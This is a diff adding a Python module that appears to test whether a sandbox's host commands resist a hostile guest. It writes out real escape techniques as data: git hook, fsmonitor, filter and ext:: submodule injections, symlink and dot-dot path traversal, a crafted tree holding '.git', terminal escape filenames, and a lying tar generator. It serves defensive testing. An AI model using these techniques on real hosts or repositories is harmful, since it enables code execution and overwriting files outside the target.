@@ -1,0 +1,249 @@
+"""Traps in the private copy, for what `sandbox diff`, `apply`, `pull` and `cp` do with it on the host.
+
+All traps are set at once, since every command costs; each has a marker of its own, so each has its own verdict.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import json
+import os
+import stat
+from collections.abc import Callable, Iterator
+from functools import partial
+
+from engine.attacks.host.check import Check
+from engine.attacks.trial import Trial
+
+# RUN is a program that leaves a marker on the host, OUT the directory outside of the mounts.
+_TRAPS = {
+    "a hook": "for h in post-checkout post-merge pre-commit reference-transaction post-index-change post-applypatch; do"
+    " printf '#!/bin/sh\\nRUN\\n' > .git/hooks/$h; chmod +x .git/hooks/$h; done",
+    "a monitor": "git config core.fsmonitor 'RUN'",
+    "a filter": "git config filter.x.clean 'RUN; cat'; git config filter.x.smudge 'RUN; cat'; echo '* filter=x diff=x' > .gitattributes",
+    "a program for differences": "git config diff.external 'RUN'; git config diff.x.textconv 'RUN'; git config diff.x.command 'RUN'",
+    "an ssh of its own": "git config core.sshCommand 'RUN'; git config remote.origin.uploadpack 'RUN'; git config uploadpack.packObjectsHook 'RUN'",
+    "hooks elsewhere": "mkdir -p mine; printf '#!/bin/sh\\nRUN\\n' > mine/post-checkout; chmod +x mine/post-checkout; git config core.hooksPath mine",
+    "included configuration": "printf '[core]\\n\\tpager = RUN\\n\\teditor = RUN\\n[alias]\\n\\tdiff = !RUN\\n' > mine/config; git config include.path ../mine/config",
+    "a submodule": "printf '[submodule \"s\"]\\n\\tpath = s\\n\\turl = ext::sh -c RUN\\n\\tupdate = !RUN\\n' > .gitmodules; git config protocol.ext.allow always",
+    "a repository inside": "git init -q inner; printf '#!/bin/sh\\nRUN\\n' > inner/.git/hooks/post-checkout; git -C inner config core.fsmonitor 'RUN'",
+    "a merge driver": "git config merge.x.driver 'RUN'; git config merge.default x",
+    "signatures": "git config gpg.program 'RUN'; git config commit.gpgsign true; git config log.showSignature true",
+}  # fmt: skip
+_WRITES = {
+    "a link out": "ln -s OUT leads-out; ln -s OUT/victim leads-to-file",
+    "a directory that became a link": "rm -rf d; ln -s OUT d",
+    "a file through a link": "ln -s OUT door; mkdir -p real; echo x > real/f",
+    "another spelling of .git": "mkdir -p .GIT .Git 'git~1' '.git ' '.git.'; for n in .GIT .Git 'git~1' '.git ' '.git.'; do echo '[core] fsmonitor = RUN' > \"$n/config\"; done",
+    "names that control a terminal": "touch \"$(printf 'esc\\033]52;c;QUFB\\007')\" \"$(printf 'line\\nbreak')\" \"$(printf 'left\\342\\200\\256right')\"",
+    "a FIFO and a device": "mkfifo fifo; mknod null c 1 3; mknod disk b 254 0",
+    "setuid": "cp /bin/true setuid; chmod 6755 setuid",
+}  # fmt: skip
+# A commit whose tree has a `.git` and `..`: no git writes one, `mktree` does.
+_COMMITS = """
+blob=$(echo '[core] fsmonitor = RUN' | git hash-object -w --stdin)
+inner=$(printf '100644 blob %s\\tconfig\\n' $blob | git mktree)
+tree=$(printf '040000 tree %s\\t.git\\n040000 tree %s\\t..\\n' $inner $inner | git hash-object -t tree --stdin -w --literally 2>/dev/null || printf '040000 tree %s\\t.git\\n' $inner | git mktree)
+git update-ref refs/heads/main $(echo evil | git commit-tree $tree -p HEAD)
+"""
+_PROPER = "echo proper > proper.txt"
+_AS_ROOT = (
+    "cd /copied; export HOME=/root GIT_AUTHOR_NAME=g GIT_AUTHOR_EMAIL=g@l GIT_COMMITTER_NAME=g GIT_COMMITTER_EMAIL=g@l"
+)
+_COMMANDS = (
+    ("diff",), ("diff", "--stat"), ("apply", "--check"), ("pull", "--branch", "pulled"), ("apply",),
+    ("apply", "proper.txt"),
+)  # fmt: skip
+
+
+def outputs(trial: Trial) -> str:
+    """What the commands printed; the first check that asks sets the traps."""
+    if "tools" not in trial.notes:
+        trial.notes["tools"] = set_traps(trial)
+    return trial.notes["tools"]
+
+
+def set_traps(trial: Trial) -> str:
+    """Plant all of them, run the host's commands over them, and return what those printed."""
+    lines = [_AS_ROOT, f"chown -R root: /copied; {_PROPER}"]
+    for number, trap in enumerate(_TRAPS.values()):
+        lines.append(f"( {trap.replace('RUN', f'touch {trial.outside}/ran-{number}')} ) || true")
+    lines += [f"( {trap} ) || true" for trap in (*_WRITES.values(), _COMMITS)]
+    script = "\n".join(lines).replace("RUN", f"touch {trial.outside}/ran").replace("OUT", str(trial.outside))
+    trial.root("sh -s", stdin=script).ok()
+    ran = [trial.call(*command, timeout_s=120) for command in _COMMANDS]
+    return "".join(one.out + one.err + ("" if one.code is not None else "\nno end\n") for one in ran)
+
+
+def trapped(number: int, trial: Trial) -> Iterator[str]:
+    outputs(trial)
+    marker = trial.outside / f"ran-{number}"
+    if marker.exists():
+        marker.unlink()
+        yield "a program that the guest named ran on the host"
+
+
+def written(trial: Trial) -> Iterator[str]:
+    """Nothing of the copy was written where it does not belong."""
+    outputs(trial)
+    copied = trial.beside / "copied"
+    for path in copied.rglob("*"):
+        if path.is_symlink() and not path.resolve().is_relative_to(copied.resolve()):
+            yield f"{path.name} leads out of the project"
+    if (copied / "d").is_symlink():
+        yield "a directory was replaced by a link"
+
+
+def repository(trial: Trial) -> Iterator[str]:
+    outputs(trial)
+    copied = trial.beside / "copied"
+    if "touch" in (copied / ".git/config").read_text():
+        yield "the guest's configuration is in the repository of the host"
+    hooks = [path.name for path in (copied / ".git/hooks").iterdir() if not path.name.endswith(".sample")]
+    if hooks:
+        yield f"the repository of the host has the hooks {hooks}"
+    for name in (".GIT", ".Git", "git~1", ".git ", ".git.", "inner/.git"):
+        if os.path.lexists(copied / name):
+            yield f"{name!r} was written"
+
+
+def special(trial: Trial) -> Iterator[str]:
+    outputs(trial)
+    for path in (trial.beside / "copied").rglob("*"):
+        mode = path.lstat().st_mode
+        if not (stat.S_ISREG(mode) or stat.S_ISDIR(mode) or stat.S_ISLNK(mode)):
+            yield f"{path.name} is a device or a FIFO"
+        if stat.S_ISREG(mode) and mode & (stat.S_ISUID | stat.S_ISGID):
+            yield f"{path.name} has a setuid or setgid bit"
+
+
+def terminal(trial: Trial) -> Iterator[str]:
+    text = outputs(trial)
+    if controls := sorted(
+        {letter for letter in text if (ord(letter) < 32 and letter not in "\n\t") or letter in "\x7f\u202e"}
+    ):
+        yield f"the commands print the control characters {controls}"
+    if "esc" not in text:
+        yield "the control: the commands do not show the name at all"
+    if "no end" in text:
+        yield "a command did not end"
+
+
+def commits(trial: Trial) -> Iterator[str]:
+    """`pull` fetched no tree that git would write as a repository."""
+    text = outputs(trial)
+    if (trial.beside / "copied/.git/refs/heads/pulled").exists():
+        yield f"a commit with a tree that holds a .git became a branch: {text[-300:]!r}"
+
+
+def still_works(trial: Trial) -> Iterator[str]:
+    """The control: a proper file comes over in spite of all that."""
+    text = outputs(trial)
+    path = trial.beside / "copied/proper.txt"
+    if not path.exists() or path.read_text() != "proper\n":
+        yield f"the control: a proper file was not applied: {text[-300:]!r}"
+
+
+# `sandbox cp`: the guest's tar is replaced by one that lies.
+_LYING_TAR = """
+import io, sys, tarfile
+what, out = sys.argv[1], sys.argv[2]
+def member(name, kind=tarfile.REGTYPE, link="", mode=0o644, size=0):
+    info = tarfile.TarInfo(name); info.type, info.linkname, info.mode, info.size = kind, link, mode, size
+    return info
+archive, data = io.BytesIO(), b"evil\\n"
+def put(info, content=b""):
+    archive.write(info.tobuf(tarfile.USTAR_FORMAT) + content + bytes(-len(content) % 512))
+put(member("d", tarfile.DIRTYPE, mode=0o755))
+if what == "absolute": put(member(f"{out}/evil", size=5), data)
+if what == "dots": put(member("d/../../outside/evil", size=5), data); put(member("../outside/evil2", size=5), data)
+if what == "link": put(member("d/l", tarfile.SYMTYPE, out)); put(member("d/l/evil", size=5), data)
+if what == "hard": put(member("d/h", tarfile.LNKTYPE, f"{out}/victim")); put(member("d/h", size=5), data)
+if what == "device": put(member("d/null", tarfile.CHRTYPE)); put(member("d/fifo", tarfile.FIFOTYPE))
+if what == "setuid": put(member("d/s", mode=0o6755, size=5), data)
+if what == "long": put(member("d/x", size=1 << 32), data * 1000)
+if what == "deep": [put(member("d/" + "/".join("x" * n), tarfile.DIRTYPE, mode=0o755)) for n in range(1, 60)]
+if what == "pax": archive.write((member("p", b"g", size=512).tobuf(tarfile.USTAR_FORMAT) + bytes(512)) * 30000)
+if what == "noise": archive.write(bytes(range(256)) * 4000)
+sys.stdout.buffer.write(archive.getvalue() + bytes(1024))
+"""
+_LYING = {
+    "an absolute name": "absolute", "dots": "dots", "through a link": "link", "a hard link": "hard",
+    "a device": "device", "setuid": "setuid", "a size that lies": "long", "very deep": "deep",
+    "headers without end": "pax", "no archive": "noise",
+}  # fmt: skip
+_REPLACE = """
+mkdir -p /run/tar /d; cat > /run/tar/lying.py
+[ -e /run/tar/real ] || cp /usr/bin/tar /run/tar/real
+printf '#!/bin/sh\\nexec python3 /run/tar/lying.py "$(cat /run/tar/what)" "$(cat /run/tar/out)"\\n' > /run/tar/tar; chmod 755 /run/tar/tar
+echo WHAT > /run/tar/what; echo OUT > /run/tar/out
+findmnt /usr/bin/tar > /dev/null || mount --bind /run/tar/tar /usr/bin/tar
+"""
+_PUT_BACK = "umount /usr/bin/tar 2>/dev/null; true"
+
+
+def lying_archive(what: str, trial: Trial) -> Iterator[str]:
+    target = trial.room.base / "copies" / what
+    target.mkdir(parents=True)
+    script = _REPLACE.replace("WHAT", what).replace("OUT", str(trial.outside))
+    trial.root(script, stdin=_LYING_TAR).ok()
+    try:
+        ran = trial.call("cp", ":/d", str(target / "here"), timeout_s=60)
+    finally:
+        trial.root(_PUT_BACK)
+    if ran.code is None:
+        yield "`cp` did not end within a minute"
+    if ran.code == 3 or "Traceback" in ran.err:
+        yield f"`cp` ended as by a bug: {ran.err[-300:]!r}"
+    for path in target.rglob("*"):
+        mode = path.lstat().st_mode
+        bad = stat.S_ISCHR(mode) or stat.S_ISBLK(mode) or (stat.S_ISREG(mode) and mode & (stat.S_ISUID | stat.S_ISGID))
+        if bad:
+            yield f"{path.name} was made with the mode {mode:o}"
+        with contextlib.suppress(OSError):
+            if path.is_file() and path.stat().st_nlink > 1:
+                yield f"{path.name} is a hard link"
+    if victim := (trial.outside / "victim").read_text() != "victim\n" or [*trial.outside.glob("evil*")]:
+        yield f"outside of the target something was written: {victim}"
+
+
+def shown(trial: Trial) -> Iterator[str]:
+    """What the guest may call itself, and ask for, controls no terminal in what our commands print."""
+    hosts = ["esc\x1b]52;c;QUFB\x07.example", "title\x1b]0;x\x07.example", "c1\x9b2J.example"]
+    program = "import json,sys,socket\nfor host in json.load(sys.stdin):\n    c = socket.create_connection(('10.0.2.100', 80), 9)\n    c.sendall(b'GET /\\x1b]52;c;QUFB\\x07 HTTP/1.1\\r\\nHost: ' + host.encode('latin-1') + b'\\r\\nUser-Agent: \\x1b[2J\\r\\n\\r\\n')\n    c.recv(9)\n"
+    argv = ("exec", "-i", "-u", "root", "--", "python3", "-c", program)
+    trial.call(*argv, stdin=json.dumps(hosts)).ok()
+    trial.root(
+        "hostname \"$(printf 'a\\033]0;x\\007')\" 2>/dev/null; printf '\\033]52;c;QUFB\\007' > /dev/hvc0 2>/dev/null; true"
+    )
+    for command in (("journal",), ("ls",), ("stats",), ("endpoints",), ("plan",)):
+        ran = trial.call(*command, timeout_s=60)
+        text = ran.out + ran.err
+        if controls := sorted({letter for letter in text if ord(letter) in range(32) and letter not in "\n\t\r"}):
+            yield f"`{command[0]}` prints the control characters {controls}"
+
+
+_FRESH = ("fresh",)
+
+
+def _check(kind: str, claim: str, look: Callable[[Trial], Iterator[str]]) -> Check:
+    return Check("host tools", kind, claim, look, _FRESH)
+
+
+CHECKS = (
+    *(
+        _check(f"git: {kind}", "The host's git runs no program that the guest's repository names.", partial(trapped, number))
+        for number, kind in enumerate(_TRAPS)
+    ),
+    _check("links in the copy", "No link that leads out comes over, and nothing is written through one.", written),
+    _check("spellings of .git", "No hook, no configuration and no other spelling of `.git` comes over.", repository),
+    _check("devices and setuid", "No device, no FIFO and no setuid bit comes over.", special),
+    _check("names in a terminal", "Names in the copy control no terminal: `diff`, `apply` and `pull` print none as it is.", terminal),
+    _check("a tree with a .git", "A commit whose tree holds a `.git` becomes no branch.", commits),
+    _check("a proper file", "The control: in spite of the traps a proper file comes over.", still_works),
+    *(
+        _check(f"cp: {kind}", "An archive that lies writes below its target alone, and `cp` ends with a word.", partial(lying_archive, what))
+        for kind, what in _LYING.items()
+    ),
+    Check("host tools", "journal, ls, stats, endpoints", "No word of the guest controls the terminal of who looks.", shown, ("fresh", "live-changed")),
+)  # fmt: skip
